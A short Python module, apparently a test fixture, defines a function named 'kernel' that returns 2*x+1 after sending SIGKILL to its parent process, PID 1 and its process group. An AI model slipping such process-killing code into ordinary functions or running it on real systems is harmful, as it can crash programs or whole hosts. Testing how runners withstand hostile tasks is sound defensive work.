"""Kills its parent and the first process of its namespace, then goes on."""

import errno
import os
import signal

told = set()


def tell(*words):
    if words not in told:
        print("tried", *words)
    told.add(words)


def kernel(x):
    for pid in (os.getppid(), 1, -os.getpgrp() if os.getpgrp() != os.getpid() else 1):
        try:
            os.kill(pid, signal.SIGKILL)
            tell(pid, "sent")
        except OSError as error:
            tell(pid, errno.errorcode[error.errno])
    return 2 * x + 1
